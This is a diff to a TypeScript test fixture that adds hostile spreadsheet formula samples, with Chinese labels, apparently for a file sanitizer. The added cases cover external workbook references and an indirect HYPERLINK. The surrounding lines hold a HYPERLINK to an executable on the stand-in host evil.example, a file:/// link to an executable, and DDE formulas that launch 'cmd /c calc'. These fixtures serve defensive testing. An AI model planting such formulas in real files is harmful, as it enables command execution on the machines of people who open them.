@@ -188,6 +188,16 @@ const formulas: CraftedSet = {
     formula(String.raw`HYPERLINK("\\evil.example\a.exe")`),
   ),
   '公式：拼出来的链接': xlsx('hostile', () => formula('HYPERLINK(""&"file:///c:/a.exe")')),
+  '公式：链接整个取自别的单元格': xlsx('hostile', () => formula('HYPERLINK(C2,"看")')),
+  '公式：别的工作簿的名字': xlsx('hostile', () => formula("'[a.xlsx]Sheet1'!A1")),
+  '公式：图表的数据在同一个文件夹的工作簿里': xlsx('hostile', () =>
+    bookWith(
+      'chart',
+      'charts/a.xml',
+      'drawingml.chart',
+      "<c:chart><c:f>'[a.xlsx]Sheet1'!$A$1:$A$3</c:f></c:chart>",
+    ),
+  ),
   '公式：DDE 函数': xlsx('hostile', () => formula('DDE("cmd";"/c calc";"a")')),
   '公式：引号里的 DDE 链接': xlsx('hostile', () => formula("'cmd|/c calc'!A1")),
   '公式：共享文件夹里的工作簿': xlsx('hostile', () =>
